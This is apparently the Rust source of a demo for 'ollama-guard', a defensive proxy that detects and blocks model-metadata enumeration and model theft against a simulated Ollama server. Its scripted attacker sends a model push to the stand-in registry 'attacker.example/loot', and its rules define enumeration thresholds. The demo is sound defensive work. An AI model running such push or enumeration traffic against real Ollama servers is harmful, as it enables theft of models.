//! `ollama-guard demo`: the simulator (`ollama-sim`), the proxy and a scripted attack, in one
//! process.
//!
//! Rules are scaled from minutes to seconds so the whole story fits in about twenty seconds:
//! a team member chats normally from 127.0.0.1 while an attacker on 127.0.0.66 hammers
//! `/api/show` and `/api/tags` with slow calls. The detection log (JSON lines) goes to
//! stdout as it is written; the narration and a metrics excerpt go to stderr.

use std::process::ExitCode;
use std::time::Duration;

use bytes::Bytes;
use http::Request;
use http_body_util::{BodyExt, Full};
use hyper_util::client::legacy::connect::HttpConnector;
use hyper_util::client::legacy::Client;
use hyper_util::rt::TokioExecutor;
use tokio::net::TcpListener;

use ollama_guard::config::{Config, ConfigError, FileConfig, LogFormat, ServeArgs};
use ollama_guard::serve::{ServeError, Server};
use ollama_sim::SimConfig;

use super::{init_tracing, runtime};

/// The demo's rules: the built-ins' shape with seconds instead of minutes.
const DEMO_RULES: &str = r#"
[[rule]]
name = "model_exfiltration"
escu_id = "c9fd1a54-0eab-4470-8970-d5fcc3c740fb"
mitre = "T1048"
attack_type = "Potential Data Exfiltration"
min_latency = "500ms"
window = "10s"
threshold = 1
severity_high = "650ms"
severity_medium = "550ms"

[[rule]]
name = "metadata_enumeration"
mitre = "T1048"
attack_type = "Model Metadata Enumeration"
paths = ["/api/show", "/api/tags", "/api/ps", "/v1/models", "/v1/models/*"]
group_by = "src"
window = "15s"
window_kind = "sliding"
threshold = 20
severity_by = "count"
severity_high = 50
severity_medium = 30
"#;

/// In block mode the enumeration rule bans (the default built-ins keep latency rules log-only).
const DEMO_BLOCK: &str = r#"
action = "block"
"#;

/// Why the demo failed.
#[derive(Debug, thiserror::Error)]
enum DemoError {
    /// Binding a loopback port failed (the OS error is the source, printed once by [`main`]).
    #[error("cannot bind a loopback port")]
    Bind(#[from] std::io::Error),
    /// The embedded config is invalid (a bug).
    #[error(transparent)]
    Config(#[from] ConfigError),
    /// The server could not start.
    #[error(transparent)]
    Serve(#[from] ServeError),
    /// A scripted request failed.
    #[error("scripted request failed: {0}")]
    Request(String),
}

type DemoClient = Client<HttpConnector, Full<Bytes>>;

fn client_from(source: [u8; 4]) -> DemoClient {
    let mut c = HttpConnector::new();
    c.set_local_address(Some(std::net::IpAddr::from(source)));
    Client::builder(TokioExecutor::new()).build(c)
}

async fn call(
    c: &DemoClient,
    method: &str,
    url: String,
    body: &'static str,
    delay_ms: u32,
) -> Result<u16, DemoError> {
    let req = Request::builder()
        .method(method)
        .uri(url)
        .header("x-sim-delay-ms", delay_ms.to_string())
        .body(Full::new(Bytes::from_static(body.as_bytes())))
        .map_err(|e| DemoError::Request(e.to_string()))?;
    let resp = c
        .request(req)
        .await
        .map_err(|e| DemoError::Request(e.to_string()))?;
    let status = resp.status().as_u16();
    resp.into_body()
        .collect()
        .await
        .map_err(|e| DemoError::Request(e.to_string()))?;
    Ok(status)
}

fn say(text: &str) {
    if super::stderr_colour() {
        eprintln!("\x1b[1mdemo:\x1b[0m {text}");
    } else {
        eprintln!("demo: {text}");
    }
}

async fn normal_traffic(proxy: &str) -> Result<(), DemoError> {
    let c = client_from([127, 0, 0, 1]);
    say("127.0.0.1 chats with llama3.2 as a team member would (streamed answers)");
    call(&c, "GET", format!("{proxy}/api/tags"), "", 0).await?;
    for _ in 0..4 {
        let body = r#"{"model":"llama3.2","messages":[{"role":"user","content":"Summarise this paragraph"}]}"#;
        call(&c, "POST", format!("{proxy}/api/chat"), body, 0).await?;
    }
    Ok(())
}

async fn attack(proxy: &str, block: bool) -> Result<(), DemoError> {
    let c = client_from([127, 0, 0, 66]);
    say("127.0.0.66 starts copying model metadata: 30 slow /api/show and /api/tags calls");
    for batch in 0..3 {
        let mut calls = Vec::new();
        for i in 0..10 {
            let c = c.clone();
            let (method, url, body) = if i % 2 == 0 {
                (
                    "POST",
                    format!("{proxy}/api/show"),
                    r#"{"model":"llama3.2","verbose":true}"#,
                )
            } else {
                ("GET", format!("{proxy}/api/tags"), "")
            };
            let delay = 520 + 40 * (batch * 10 + i) as u32 % 200;
            calls.push(tokio::spawn(async move {
                call(&c, method, url, body, delay).await
            }));
        }
        for h in calls {
            // In block mode the attacker's calls running when it is banned are cut: an error
            // here is that cut, not a failure of the demo.
            let cut = h.await.map_err(|e| DemoError::Request(e.to_string()))?;
            if let Err(e) = cut {
                if !block {
                    return Err(e);
                }
            }
        }
    }
    Ok(())
}

async fn metrics_excerpt(admin: &str) -> Result<String, DemoError> {
    let c: DemoClient = Client::builder(TokioExecutor::new()).build_http();
    let req = Request::get(format!("{admin}/metrics"))
        .body(Full::new(Bytes::new()))
        .map_err(|e| DemoError::Request(e.to_string()))?;
    let body = c
        .request(req)
        .await
        .map_err(|e| DemoError::Request(e.to_string()))?;
    let bytes = body
        .into_body()
        .collect()
        .await
        .map_err(|e| DemoError::Request(e.to_string()))?
        .to_bytes();
    let text = String::from_utf8_lossy(&bytes);
    let keep = |l: &&str| {
        !l.starts_with('#')
            && !l.ends_with(" 0")
            && (l.starts_with("ollama_guard_detections_total")
                || l.starts_with("ollama_guard_requests_total")
                || l.starts_with("ollama_guard_tracked_keys")
                || l.starts_with("ollama_guard_request_duration_seconds_count"))
    };
    Ok(text.lines().filter(keep).collect::<Vec<_>>().join("\n"))
}

/// Block mode's extra act: a foreign push is refused before a byte leaves, and the attacker's
/// long transfer, started before its ban, is cut when the enumeration rule bans it.
async fn prevention(proxy: &str) -> Result<tokio::task::JoinHandle<String>, DemoError> {
    let c = client_from([127, 0, 0, 66]);
    say("127.0.0.66 tries to push llama3.2 to its own registry (model theft by push)");
    let status = call(
        &c,
        "POST",
        format!("{proxy}/api/push"),
        r#"{"model":"attacker.example/loot/llama3.2"}"#,
        0,
    )
    .await?;
    say(&format!(
        "  -> {status}: refused by policy.registry_push before anything reached Ollama"
    ));
    say("127.0.0.66 starts a long (20 s) pull in the background, then enumerates metadata");
    let url = format!("{proxy}/api/pull");
    Ok(tokio::spawn(async move {
        let req = Request::post(url)
            .header("x-sim-transfer-ms", "20000")
            .body(Full::new(Bytes::from_static(br#"{"model":"llama3.2"}"#)));
        let Ok(req) = req else {
            return "not sent".to_owned();
        };
        let started = std::time::Instant::now();
        match c.request(req).await {
            Ok(resp) => match resp.into_body().collect().await {
                Ok(_) => format!("completed after {:.1}s", started.elapsed().as_secs_f64()),
                Err(_) => format!("cut after {:.1}s", started.elapsed().as_secs_f64()),
            },
            Err(e) => format!("failed: {e}"),
        }
    }))
}

/// Runs the demo; returns when the story is told and everything has shut down.
async fn run(block: bool) -> Result<(), DemoError> {
    let sim = ollama_sim::spawn(
        TcpListener::bind("127.0.0.1:0").await?,
        SimConfig::default(),
    )
    .await;
    let args = ServeArgs {
        upstream: Some(sim.url()),
        listen: Some("127.0.0.1:0".into()),
        admin_listen: Some("127.0.0.1:0".into()),
        detection_log: Some("-".into()),
        log_level: Some("warn".into()),
        mode: Some(if block { "block" } else { "monitor" }.into()),
        ..ServeArgs::default()
    };
    let rules = if block {
        format!("{DEMO_RULES}{DEMO_BLOCK}")
    } else {
        DEMO_RULES.to_owned()
    };
    let file: FileConfig = toml::from_str(&rules).map_err(|e| DemoError::Request(e.to_string()))?;
    let config = Config::merge(&args, file)?;
    let server = Server::start(
        config,
        TcpListener::bind("127.0.0.1:0").await?,
        TcpListener::bind("127.0.0.1:0").await?,
    )
    .await?;
    let proxy = format!("http://{}", server.proxy_addr);
    let admin = format!("http://{}", server.admin_addr);
    say(&format!(
        "simulated Ollama on {}, ollama-guard on {proxy} ({} mode), admin on {admin}",
        sim.url(),
        if block { "block" } else { "monitor" }
    ));
    say("rules scaled for the demo: model_exfiltration = latency > 500ms in 10s windows; metadata_enumeration = 20+ metadata calls per source in 15s");
    say("detection log lines (stdout) follow as they are written:");
    normal_traffic(&proxy).await?;
    let transfer = if block {
        Some(prevention(&proxy).await?)
    } else {
        None
    };
    attack(&proxy, block).await?;
    if let Some(t) = transfer {
        let outcome = t.await.map_err(|e| DemoError::Request(e.to_string()))?;
        say(&format!(
            "127.0.0.66's background pull: {outcome} (its source was banned by a rule above; the ban cut it)"
        ));
    }
    normal_traffic(&proxy).await?;
    // The window closes at the next multiple of 10 s; the ticker writes its summary within
    // the close grace plus one tick after that.
    let wait = 13 - (chrono::Utc::now().timestamp() % 10) as u64;
    say(&format!(
        "waiting {wait}s for the 10s window to close: its window_summary lines follow"
    ));
    tokio::time::sleep(Duration::from_secs(wait)).await;
    say("metrics excerpt (non-zero series):");
    eprintln!("{}", metrics_excerpt(&admin).await?);
    say("shutting down; open sliding windows are closed with their summaries");
    server.shutdown().await;
    sim.shutdown().await;
    if block {
        say("done: the push was refused, 127.0.0.66 banned and its transfer cut; 127.0.0.1 was never touched");
    } else {
        say("done: no response was changed (monitor mode); `demo --mode block` shows prevention");
    }
    Ok(())
}

/// `ollama-guard demo`: exit 0 when the story has been told, 1 if anything failed.
pub(crate) fn main(block: bool) -> ExitCode {
    init_tracing("warn", LogFormat::Text);
    let result = runtime().and_then(|rt| Ok(rt.block_on(run(block))?));
    match result {
        Ok(()) => ExitCode::SUCCESS,
        Err(e) => {
            eprintln!("ollama-guard: demo: {e:#}");
            ExitCode::from(1)
        }
    }
}
